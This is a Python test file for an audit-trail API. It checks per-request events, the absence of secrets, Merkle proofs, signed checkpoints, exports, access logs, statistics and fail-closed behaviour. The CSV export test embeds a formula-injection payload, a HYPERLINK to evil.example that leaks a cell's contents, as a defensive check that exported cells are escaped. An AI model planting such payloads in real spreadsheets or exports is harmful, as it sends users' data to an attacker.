"""The audit trail through the API: one event per request, no secrets, reading, filtering,
paging, proofs, checkpoints, exports, the access log, statistics, readiness, fail-closed."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, text
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session, sessionmaker

from audit import router as audit_router
from audit.canonical import event_leaf_hash
from audit.documents import document_from_csv_row
from audit.merkle import verify_consistency, verify_inclusion
from audit.note import open_note
from service.models import AuditEvent
from tests.audit.support import add_events, fresh_app, wait_sealed, wait_until
from tests.fixtures.factories import Factory, random_uscc


def _factory(client: TestClient) -> sessionmaker[Session]:
    maker: sessionmaker[Session] = client.app.state.sessionmaker  # type: ignore[attr-defined]
    return maker


def _events_for_request(client: TestClient, request_id: str) -> list[Any]:
    with _factory(client)() as session:
        return list(session.scalars(select(AuditEvent).where(AuditEvent.request_id == request_id)))


def _rid() -> str:
    return f"test-{uuid.uuid4().hex}"


def _leaf_of(event: dict[str, Any]) -> bytes:
    return event_leaf_hash({k: v for k, v in event.items() if k not in ("seq", "inclusion_proof")})


# ---- one event per request ----------------------------------------------------------------


def test_every_request_leaves_exactly_one_event(client: TestClient, factory: Factory) -> None:
    reader = factory.headers("audit:read")
    other = factory.headers("credit:check")
    cases = [
        ("GET", "/v1/audit/events?limit=1", {}, 401, "denied"),
        ("GET", "/v1/audit/events?limit=1", other, 403, "denied"),
        ("GET", "/v1/audit/events?limit=501", reader, 422, "error"),
        ("GET", "/v1/no-such-route", reader, 404, "error"),
        ("GET", "/v1", reader, 404, "error"),
        ("GET", "/oauth", {}, 404, "error"),
        ("GET", "/v1/audit/events?limit=1", reader, 200, "success"),
        ("POST", "/oauth/token", {"Authorization": "Basic bm9ib2R5Om5vdGhpbmc="}, 401, "denied"),
    ]
    for method, path, headers, status, outcome in cases:
        rid = _rid()
        response = client.request(
            method,
            path,
            headers={**headers, "X-Request-ID": rid},
            data={"grant_type": "client_credentials"} if method == "POST" else None,
        )
        assert response.status_code == status, (path, response.text)
        events = _events_for_request(client, rid)
        assert len(events) == 1, (path, status, len(events))
        assert events[0].status == status
        assert events[0].outcome == outcome
        assert events[0].details["path"] == path.split("?")[0]


def test_refusals_name_the_actor_and_the_reason(client: TestClient, factory: Factory) -> None:
    creds, headers = factory.authed("credit:check")
    rid = _rid()
    client.get("/v1/audit/events", headers={**headers, "X-Request-ID": rid})
    (event,) = _events_for_request(client, rid)
    assert event.actor_client_id == creds.client_id
    assert event.details["missing_scope"] == "audit:read"
    rid = _rid()
    client.get(
        "/v1/audit/events", headers={"Authorization": "Bearer nonsense", "X-Request-ID": rid}
    )
    (event,) = _events_for_request(client, rid)
    assert event.actor_client_id is None
    assert event.outcome == "denied"
    assert "nonsense" not in json.dumps(event.details)


def test_secrets_and_tokens_never_reach_the_trail(client: TestClient, factory: Factory) -> None:
    creds = factory.client("audit:read admin:clients")
    rid = _rid()
    response = client.post(
        "/oauth/token",
        data={"grant_type": "client_credentials"},
        headers={**creds.basic(), "X-Request-ID": rid},
    )
    token = response.json()["access_token"]
    bearer = {"Authorization": f"Bearer {token}"}
    # The token is also sent back in an introspection and used on a route.
    client.post("/oauth/introspect", data={"token": token}, headers=creds.basic())
    created = client.post(
        "/v1/admin/clients",
        json={
            "name": "secret-holder",
            "scopes": ["credit:check"],
            "purposes": ["ONBOARDING"],
            "rate_plan": "standard",
            "token_endpoint_auth_method": "client_secret_basic",
        },
        headers=bearer,
    )
    assert created.status_code == 201, created.text
    new_secret = created.json()["client_secret"]
    exported = client.get(
        "/v1/audit/export", params={"client_id": creds.client_id}, headers=bearer
    ).content.decode()
    events = [json.loads(line) for line in exported.splitlines()]
    actions = {e["action"] for e in events}
    assert {"oauth.token", "oauth.introspect", "client.create"} <= actions
    assert assert_no_secret(exported, [creds.secret or "", token, new_secret])
    with _factory(client)() as session:
        rows = session.execute(
            text("SELECT * FROM audit_events WHERE actor_client_id = :c"), {"c": creds.client_id}
        ).all()
    assert assert_no_secret(repr(rows), [creds.secret or "", token, new_secret])


def assert_no_secret(text_: str, secrets: list[str]) -> bool:
    for secret in secrets:
        assert secret, "empty secret in the test"
        assert secret not in text_
        assert secret[:16] not in text_
    return True


# ---- reading ------------------------------------------------------------------------------


def test_filters_and_pagination(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    client_id = f"cs_test_{uuid.uuid4().hex[:12]}"
    maker = _factory(client)
    old = datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)
    early = add_events(maker, 3, client_id=client_id, action="test.alpha", occurred_at=old)
    ok = add_events(maker, 4, client_id=client_id, action="test.alpha")
    denied = add_events(maker, 2, client_id=client_id, action="test.beta", status=403)
    uscc = random_uscc()
    tagged = add_events(maker, 1, client_id=client_id, action="test.beta", uscc=uscc)
    wait_sealed(maker, early)  # back-dated: an old backlog until sealed

    def ids(**params: Any) -> list[str]:
        out: list[str] = []
        cursor = None
        while True:
            query = {"client_id": client_id, "limit": 3, **params}
            if cursor:
                query["cursor"] = cursor
            response = client.get("/v1/audit/events", params=query, headers=headers)
            assert response.status_code == 200, response.text
            body = response.json()
            out += [e["id"] for e in body["items"]]
            cursor = body["next_cursor"]
            if cursor is None:
                return out

    everything = early + ok + denied + tagged
    assert ids() == list(reversed(everything))  # newest first, across 4 pages
    assert set(ids(action="test.alpha")) == set(early + ok)
    assert set(ids(action="test.*")) == set(everything)
    assert ids(outcome="denied") == list(reversed(denied))
    assert ids(uscc=uscc.lower()) == tagged
    assert set(ids(until="2025-01-03T00:00:00+08:00")) == set(early)
    assert set(ids(since="2025-01-02T03:04:05Z", until="2025-01-02T03:04:06Z")) == set(early)
    assert set(ids(since=(datetime.now(UTC) - timedelta(days=1)).isoformat())) == set(
        ok + denied + tagged
    )
    assert ids(request_id="req-test-0", action="test.beta") == [tagged[0], denied[0]]

    page = client.get("/v1/audit/events", params={"client_id": client_id}, headers=headers).json()
    assert len(page["items"]) == 10
    assert page["next_cursor"] is None
    event = page["items"][0]
    assert list(event) == [
        "id", "seq", "occurred_at", "actor", "action", "target", "uscc",
        "purpose", "outcome", "status", "request_id", "ip", "details",
    ]  # fmt: skip
    assert event["actor"] == {"client_id": client_id, "name": "tester", "kind": "client"}

    for bad in (
        {"limit": 0},
        {"limit": 501},
        {"outcome": "maybe"},
        {"since": "2025-01-01T00:00:00"},
        {"cursor": "!!"},
    ):
        response = client.get("/v1/audit/events", params=bad, headers=headers)
        assert response.status_code == 422, bad
        assert response.json()["type"].endswith("/problems/validation-failed")


@pytest.mark.parametrize("path", ["/v1/audit/events", "/v1/audit/export", "/v1/audit/stats"])
@pytest.mark.parametrize(
    "bad",
    [
        {"since": "0001-01-01T00:00:00+00:01"},  # before year 1 in UTC
        {"until": "0001-01-01T00:00:02+03:58"},
        {"until": "9999-12-31T23:59:59-01:00"},  # after year 9999 in UTC
    ],
)
def test_timestamps_without_a_utc_instant_are_422(
    client: TestClient, factory: Factory, path: str, bad: dict[str, str]
) -> None:
    """Well-formed RFC 3339 text whose instant lies outside the years 1 to 9999 in UTC is
    refused as invalid input, never answered 503 or a broken stream."""
    response = client.get(path, params=bad, headers=factory.headers("audit:read"))
    assert response.status_code == 422, response.text
    assert response.json()["type"].endswith("/problems/validation-failed")


def test_unknown_event_is_404(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    for event_id in ("evt_00000000000000000000000000", "nope"):
        response = client.get(f"/v1/audit/events/{event_id}", headers=headers)
        assert response.status_code == 404
        assert response.json()["type"].endswith("/problems/not-found")


def test_event_inclusion_proof_verifies(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    (event_id,) = add_events(_factory(client), 1, details={"note": "中文 ✓", "ratio": 2.5})
    wait_sealed(_factory(client), [event_id])
    body = client.get(f"/v1/audit/events/{event_id}", headers=headers).json()
    proof = body["inclusion_proof"]
    assert body["seq"] == proof["leaf_index"] + 1
    assert body["details"]["note"] == "中文 ✓"
    assert body["details"]["ratio"] == "2.5"  # floats become their text
    leaf = _leaf_of(body)
    assert leaf.hex() == proof["leaf_hash"]
    assert verify_inclusion(
        proof["leaf_index"],
        proof["tree_size"],
        leaf,
        [bytes.fromhex(h) for h in proof["hashes"]],
        bytes.fromhex(proof["root_hash"]),
    )
    head = client.get("/v1/audit/checkpoints/latest", headers=headers).json()
    checkpoint = open_note(proof["signed_note"], head["verifier_keys"], origin=head["origin"])
    assert checkpoint.size == proof["tree_size"]
    assert checkpoint.root.hex() == proof["root_hash"]
    # Tampering with the event breaks the proof.
    forged = {**body, "status": 500}
    assert not verify_inclusion(
        proof["leaf_index"],
        proof["tree_size"],
        _leaf_of(forged),
        [bytes.fromhex(h) for h in proof["hashes"]],
        bytes.fromhex(proof["root_hash"]),
    )


def test_unsealed_event_has_no_proof_yet(tmp_path: Path) -> None:
    with fresh_app(tmp_path, "unsealed") as fresh:
        headers = fresh.factory.headers("audit:read")
        (event_id,) = add_events(fresh.sessionmaker, 1)
        body = fresh.client.get(f"/v1/audit/events/{event_id}", headers=headers).json()
        assert body["seq"] is None
        assert body["inclusion_proof"] is None
        empty = fresh.client.get("/v1/audit/checkpoints/latest", headers=headers).json()
        assert empty["size"] == 0
        assert open_note(empty["signed_note"], empty["verifier_keys"]).size == 0
        fresh.seal_all()
        body = fresh.client.get(f"/v1/audit/events/{event_id}", headers=headers).json()
        assert body["seq"] is not None
        assert body["inclusion_proof"]["tree_size"] >= body["seq"]


def test_checkpoint_and_consistency_proof(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    maker = _factory(client)
    wait_sealed(maker, add_events(maker, 3))
    first = client.get("/v1/audit/checkpoints/latest", headers=headers).json()
    assert first["verifier_key"] in first["verifier_keys"]
    head = open_note(first["signed_note"], [first["verifier_key"]], origin=first["origin"])
    assert first["origin"] == "testserver/creditshare/audit"
    assert (head.size, head.root.hex()) == (first["size"], first["root_hash"])
    wait_sealed(maker, add_events(maker, 5))
    second = client.get("/v1/audit/checkpoints/latest", headers=headers).json()
    assert second["size"] >= first["size"] + 5
    response = client.get(
        "/v1/audit/proofs/consistency",
        params={"from": first["size"], "to": second["size"]},
        headers=headers,
    )
    assert response.status_code == 200, response.text
    proof = response.json()
    assert (proof["from"], proof["to"]) == (first["size"], second["size"])
    assert (proof["from_root"], proof["to_root"]) == (first["root_hash"], second["root_hash"])
    hashes = [bytes.fromhex(h) for h in proof["hashes"]]
    assert verify_consistency(
        first["size"],
        second["size"],
        bytes.fromhex(first["root_hash"]),
        bytes.fromhex(second["root_hash"]),
        hashes,
    )
    assert not verify_consistency(
        first["size"], second["size"], bytes(32), bytes.fromhex(second["root_hash"]), hashes
    )
    default_to = client.get(
        "/v1/audit/proofs/consistency", params={"from": 1}, headers=headers
    ).json()
    assert default_to["to"] >= second["size"]
    for params in ({"from": 0}, {"from": 5, "to": 4}, {"from": 1, "to": 10**9}, {}):
        assert (
            client.get("/v1/audit/proofs/consistency", params=params, headers=headers).status_code
            == 422
        )


def test_verify_endpoint_on_an_intact_log(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    maker = _factory(client)
    seqs = wait_sealed(maker, add_events(maker, 4))
    result = client.post("/v1/audit/verify", headers=headers).json()
    assert result["ok"] is True
    assert result["first_bad_seq"] is None
    assert result["checked"] >= max(seqs.values())
    lo, hi = min(seqs.values()), max(seqs.values())
    ranged = client.post(
        "/v1/audit/verify", json={"from_seq": lo, "to_seq": hi}, headers=headers
    ).json()
    assert ranged == {"ok": True, "checked": hi - lo + 1, "first_bad_seq": None, "problem": None}
    for bad in ({"from_seq": 0}, {"from_seq": 5, "to_seq": 2}, {"everything": True}):
        assert client.post("/v1/audit/verify", json=bad, headers=headers).status_code == 422


def test_one_verification_at_a_time(client: TestClient, factory: Factory) -> None:
    """While a verification runs in this process, another is refused with 503 and
    Retry-After (and leaves its audit event); once it ends, verification is open again."""
    headers = factory.headers("audit:read")
    assert audit_router._VERIFYING.acquire(blocking=False)  # a verification in progress
    try:
        refused = client.post("/v1/audit/verify", headers=headers)
    finally:
        audit_router._VERIFYING.release()
    assert refused.status_code == 503
    assert refused.headers["retry-after"] == audit_router.VERIFY_RETRY_AFTER
    assert refused.json()["type"].endswith("/service-unavailable")
    [event] = _events_for_request(client, refused.headers["x-request-id"])
    assert event.action == "audit.verify"
    assert event.status == 503
    assert event.details["refused"] == "verification in progress"
    assert client.post("/v1/audit/verify", headers=headers).json()["ok"] is True


# ---- exports ------------------------------------------------------------------------------


def test_export_ndjson_round_trip(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    client_id = f"cs_test_{uuid.uuid4().hex[:12]}"
    maker = _factory(client)
    ids = add_events(
        maker,
        1203,
        client_id=client_id,
        details={"k": "v", "nested": {"a": [1, None]}, "big": 2**70},
    )
    seqs = wait_sealed(maker, ids)
    response = client.get("/v1/audit/export", params={"client_id": client_id}, headers=headers)
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    lines = response.content.splitlines()
    events = [json.loads(line) for line in lines]  # exact integers beyond 64 bits
    assert events[0]["details"]["big"] == 2**70
    assert [e["id"] for e in events] == list(reversed(ids))  # three pages, newest first
    with maker() as session:
        stored: dict[int, str] = dict(
            session.execute(
                text(
                    "SELECT l.seq, l.leaf_hash FROM audit_log l JOIN audit_events e "
                    "ON e.pk = l.event_pk WHERE e.actor_client_id = :c"
                ),
                {"c": client_id},
            ).all()
        )
    for event in events:
        assert event["seq"] == seqs[event["id"]]
        assert _leaf_of(event).hex() == stored[event["seq"]]
    oldest = client.get(
        "/v1/audit/export", params={"client_id": client_id, "order": "oldest"}, headers=headers
    )
    assert [orjson.loads(x)["id"] for x in oldest.content.splitlines()] == ids


def test_export_csv_round_trip_and_formula_guard(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    client_id = f"cs_test_{uuid.uuid4().hex[:12]}"
    maker = _factory(client)
    ids = add_events(
        maker, 2, client_id=client_id, name=hostile, details={"why": "-2+3", "t": "中文"}
    )
    ids += add_events(
        maker, 1, client_id=client_id, name="'quoted", uscc=None, purpose="ONBOARDING"
    )
    seqs = wait_sealed(maker, ids)
    response = client.get(
        "/v1/audit/export", params={"client_id": client_id, "format": "csv"}, headers=headers
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="audit-events.csv"' in response.headers["content-disposition"]
    # Plain UTF-8, as any CSV reader takes it; with bom=true, a byte order mark first.
    rows = list(csv.DictReader(io.StringIO(response.text)))
    marked = client.get(
        "/v1/audit/export",
        params={"client_id": client_id, "format": "csv", "bom": "true"},
        headers=headers,
    )
    assert marked.content == b"\xef\xbb\xbf" + response.content
    assert len(rows) == 3
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[-1]["actor_name"] == "'" + hostile
    ndjson = client.get(
        "/v1/audit/export", params={"client_id": client_id}, headers=headers
    ).content.splitlines()
    for row, line in zip(rows, ndjson, strict=True):
        document = document_from_csv_row(row)
        assert document == orjson.loads(line)
        assert document["seq"] == seqs[str(document["id"])]
        assert _leaf_of(document) == _leaf_of(orjson.loads(line))


def test_export_of_nothing_has_a_header_only(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    response = client.get(
        "/v1/audit/export", params={"client_id": "nobody-at-all", "format": "csv"}, headers=headers
    )
    assert response.text.strip().startswith("id,seq,occurred_at")
    assert len(response.text.strip().splitlines()) == 1
    assert (
        client.get("/v1/audit/export", params={"format": "xml"}, headers=headers).status_code == 422
    )


# ---- access log and statistics ------------------------------------------------------------


def test_merchant_access_log(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    maker = _factory(client)
    uscc = random_uscc()
    a, b = f"cs_a_{uuid.uuid4().hex[:8]}", f"cs_b_{uuid.uuid4().hex[:8]}"
    first = add_events(
        maker, 1, client_id=a, action="credit_check.create", uscc=uscc, purpose="ONBOARDING",
        status=201, details={"verdict": "CAUTION"}, target=("credit_check", "chk_1"),
    )  # fmt: skip
    add_events(maker, 1, client_id=a, action="client.read", uscc=uscc)  # not a check
    add_events(maker, 1, client_id=b, action="credit_check.create", uscc=random_uscc())
    second = add_events(
        maker, 2, client_id=b, action="credit_check.create", uscc=uscc,
        purpose="TRANSACTION_RISK", status=201, details={"verdict": "CLEAR"},
    )  # fmt: skip
    response = client.get(
        f"/v1/audit/merchants/{uscc.lower()}/access-log", params={"limit": 2}, headers=headers
    )
    assert response.status_code == 200, response.text
    page = response.json()
    assert [e["event_id"] for e in page["items"]] == list(reversed(second))
    rest = client.get(
        f"/v1/audit/merchants/{uscc}/access-log",
        params={"cursor": page["next_cursor"]},
        headers=headers,
    ).json()
    assert [e["event_id"] for e in rest["items"]] == first
    assert rest["next_cursor"] is None
    entry = rest["items"][0]
    assert entry["client_id"] == a
    assert entry["client_name"] == "tester"
    assert (entry["purpose"], entry["verdict"], entry["check_id"]) == (
        "ONBOARDING",
        "CAUTION",
        "chk_1",
    )
    assert entry["occurred_at"].endswith("Z")
    # The read itself is audited, against the merchant.
    own = client.get(
        "/v1/audit/events", params={"uscc": uscc, "action": "audit.access_log"}, headers=headers
    ).json()
    assert len(own["items"]) == 2


def test_access_log_of_an_invalid_code_is_422(client: TestClient, factory: Factory) -> None:
    """An invalid code is refused with its reason, unless the registry holds it as a legacy
    code (one failing only its check character), whose log is read."""
    headers = factory.headers("audit:read")
    legacy = "91440300708461136A"
    for code, reason in (
        ("abc", "length"),
        ("91440300708461136I", "charset"),
        (legacy, "checksum"),
    ):
        response = client.get(f"/v1/audit/merchants/{code}/access-log", headers=headers)
        assert response.status_code == 422, response.text
        assert response.json()["type"].endswith("/problems/invalid-uscc")
        assert response.json()["reason"] == reason
    factory.merchant(legacy, legacy_code=True)
    held = client.get(f"/v1/audit/merchants/{legacy}/access-log", headers=headers)
    assert held.status_code == 200
    assert held.json()["items"] == []


def test_stats_per_client_day_and_verdict(client: TestClient, factory: Factory) -> None:
    headers = factory.headers("audit:read")
    maker = _factory(client)
    a = f"cs_s_{uuid.uuid4().hex[:8]}"
    day1 = datetime(2025, 3, 1, 15, 59, tzinfo=UTC)  # 23:59 in Shanghai: 2025-03-01
    day2 = datetime(2025, 3, 1, 16, 0, tzinfo=UTC)  # 00:00 in Shanghai: 2025-03-02
    check = "credit_check.create"
    ids = add_events(
        maker,
        2,
        client_id=a,
        action=check,
        status=201,  # single checks
        details={"verdict": "CLEAR"},
        occurred_at=day1,
    )
    ids += add_events(
        maker, 1, client_id=a, action=check, details={"verdict": "RESTRICTED"}, occurred_at=day2
    )
    ids += add_events(maker, 1, client_id=a, action=check, status=404, details={}, occurred_at=day2)
    # Refused attempts (an invalid code, a purpose not allowed, rate limited) are no checks,
    # as the quota counts them; nor is a batch request's own event (each item has one).
    for refused in (422, 403, 429, 503):
        ids += add_events(
            maker, 1, client_id=a, action=check, status=refused, details={}, occurred_at=day2
        )
    ids += add_events(
        maker, 1, client_id=a, action="credit_check.batch", details={}, occurred_at=day2
    )
    ids += add_events(
        maker,
        1,
        client_id=a,
        action=check,
        details={"batch": True, "verdict": "CAUTION"},
        occurred_at=day1,
    )
    ids += add_events(
        maker,
        3,
        client_id=a,
        action="credit_check.read",
        details={"verdict": "CLEAR"},
        occurred_at=day2,
    )
    ids += add_events(maker, 1, client_id=a, action="client.create", occurred_at=day2)
    # Back-dated events look like an old backlog until sealed: do not leave one behind.
    wait_sealed(maker, ids)
    response = client.get("/v1/audit/stats", params={"client_id": a}, headers=headers)
    assert response.status_code == 200, response.text
    stats = response.json()
    assert stats["total"] == 5
    assert stats["timezone"] == "Asia/Shanghai"
    assert stats["per_client"] == [{"client_id": a, "checks": 5}]
    assert stats["per_day"] == [
        {"date": "2025-03-01", "checks": 3},
        {"date": "2025-03-02", "checks": 2},
    ]
    assert stats["per_verdict"] == [
        {"verdict": "CAUTION", "checks": 1},
        {"verdict": "CLEAR", "checks": 2},
        {"verdict": "RESTRICTED", "checks": 1},
        {"verdict": None, "checks": 1},
    ]
    assert {"client_id": a, "date": "2025-03-02", "verdict": "RESTRICTED", "checks": 1} in stats[
        "rows"
    ]
    window = client.get(
        "/v1/audit/stats",
        params={
            "client_id": a,
            "since": "2025-03-02T00:00:00+08:00",
            "until": "2025-03-03T00:00:00+08:00",
        },
        headers=headers,
    ).json()
    assert window["total"] == 2
    assert [d["date"] for d in window["per_day"]] == ["2025-03-02"]
    everyone = client.get(
        "/v1/audit/stats", params={"since": day1.isoformat()}, headers=headers
    ).json()
    assert {"client_id": a, "checks": 5} in everyone["per_client"]


def test_audit_routes_need_the_audit_scope(client: TestClient, factory: Factory) -> None:
    admin = factory.headers("admin:clients admin:data credit:check")
    for method, path in [
        ("GET", "/v1/audit/events"),
        ("GET", "/v1/audit/events/evt_x"),
        ("GET", "/v1/audit/export"),
        ("GET", "/v1/audit/checkpoints/latest"),
        ("GET", "/v1/audit/proofs/consistency?from=1"),
        ("POST", "/v1/audit/verify"),
        ("GET", "/v1/audit/merchants/91120101MA05XXXX1X/access-log"),
        ("GET", "/v1/audit/stats"),
    ]:
        assert client.request(method, path).status_code == 401, path
        assert client.request(method, path, headers=admin).status_code == 403, path


# ---- operations and failure ---------------------------------------------------------------


def test_readiness_reports_the_sealing_backlog(client: TestClient) -> None:
    # Other tests write back-dated events: once sealed (within seconds), the alarm clears.
    wait_until(lambda: client.get("/readyz").status_code == 200, 10, "readiness")
    body = client.get("/readyz").json()
    assert body["checks"]["audit_sealing"]["ok"] is True, body
    metrics = client.get("/metrics").text
    assert "creditshare_audit_unsealed_events" in metrics
    assert "creditshare_audit_sealed_events_total" in metrics


def test_old_unsealed_backlog_fails_readiness(tmp_path: Path) -> None:
    with fresh_app(tmp_path, "backlog", audit_backlog_alarm_seconds=5) as fresh:
        add_events(fresh.sessionmaker, 2, occurred_at=datetime.now(UTC) - timedelta(minutes=5))
        response = fresh.client.get("/readyz")
        assert response.status_code == 503
        check = response.json()["checks"]["audit_sealing"]
        assert check["ok"] is False
        assert check["unsealed"] >= 2
        assert check["oldest_seconds"] >= 290
        assert "creditshare_audit_oldest_unsealed_seconds 3" in fresh.client.get("/metrics").text
        fresh.seal_all()
        wait_until(lambda: fresh.client.get("/readyz").status_code == 200, 5, "readiness")


def test_embedded_sequencer_seals_within_seconds(tmp_path: Path) -> None:
    with fresh_app(tmp_path, "embedded", embedded_sequencer=True, audit_seal_interval=0.1) as fresh:
        ids = add_events(fresh.sessionmaker, 20)
        wait_sealed(fresh.sessionmaker, ids, timeout=10)
        holder = fresh.app.state.audit_sequencer.sequencer.holder
        with fresh.sessionmaker() as session:
            lease = session.execute(text("SELECT holder FROM leases")).scalar_one()
        assert lease == holder
    # Stopping gave the lease up at once, for a standby to take over.
    # (The database is gone with the app; nothing more to check here.)


def test_audit_write_failure_refuses_the_request(tmp_path: Path) -> None:
    with fresh_app(tmp_path, "noaudit") as fresh:
        admin_creds, admin = fresh.factory.authed("admin:clients audit:read")
        assert fresh.client.get("/v1/admin/clients", headers=admin).status_code == 200
        with fresh.sessionmaker() as session, session.begin():
            session.execute(text("ALTER TABLE audit_events RENAME TO audit_events_gone"))
        try:
            for path in ("/v1/admin/clients", "/v1/audit/events", "/v1/no-such-route"):
                response = fresh.client.get(path, headers=admin)
                assert response.status_code == 503, (path, response.text)
                body = response.json()
                assert body["type"].endswith("/problems/audit-unavailable")
                assert set(body) <= {"type", "title", "status", "detail", "request_id"}
                assert admin_creds.client_id not in response.text
            refused = fresh.client.post(
                "/v1/admin/clients",
                json={
                    "name": "never-created",
                    "scopes": ["credit:check"],
                    "purposes": ["ONBOARDING"],
                    "rate_plan": "standard",
                    "token_endpoint_auth_method": "client_secret_basic",
                },
                headers=admin,
            )
            assert refused.status_code == 503
            assert "client_secret" not in refused.text
            with fresh.sessionmaker() as session:
                assert (
                    session.scalar(
                        text("SELECT count(*) FROM oauth_clients WHERE name = 'never-created'")
                    )
                    == 0
                )
        finally:
            with fresh.sessionmaker() as session, session.begin():
                session.execute(text("ALTER TABLE audit_events_gone RENAME TO audit_events"))
        assert fresh.client.get("/v1/admin/clients", headers=admin).status_code == 200


def test_append_only_tables_refuse_update_and_delete(client: TestClient) -> None:
    maker = _factory(client)
    (event_id,) = add_events(maker, 1)
    wait_sealed(maker, [event_id])
    for statement in (
        "UPDATE audit_events SET status = 500 WHERE id = :id",
        "DELETE FROM audit_events WHERE id = :id",
        "UPDATE audit_log SET leaf_hash = 'x' WHERE event_pk = (SELECT pk FROM audit_events WHERE id = :id)",
        "DELETE FROM audit_log WHERE event_pk = (SELECT pk FROM audit_events WHERE id = :id)",
        "UPDATE audit_checkpoints SET note = 'x' WHERE size = (SELECT max(size) FROM audit_checkpoints)",
        "DELETE FROM audit_checkpoints",
    ):
        with maker() as session, pytest.raises(DBAPIError, match="append-only"):
            session.execute(text(statement), {"id": event_id})
    with maker() as session:
        assert session.scalar(select(func.count()).where(AuditEvent.id == event_id)) == 1
